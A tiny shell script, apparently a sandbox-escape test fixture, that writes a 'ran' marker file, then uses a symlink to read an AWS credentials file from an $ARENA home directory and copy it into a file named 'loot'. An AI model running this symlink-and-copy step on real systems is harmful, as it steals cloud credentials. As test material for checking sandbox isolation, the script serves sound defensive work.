#!/bin/sh
: > "$ARENA/ws/ran"
ln -s "$ARENA/home/.aws" link; cat link/credentials > loot
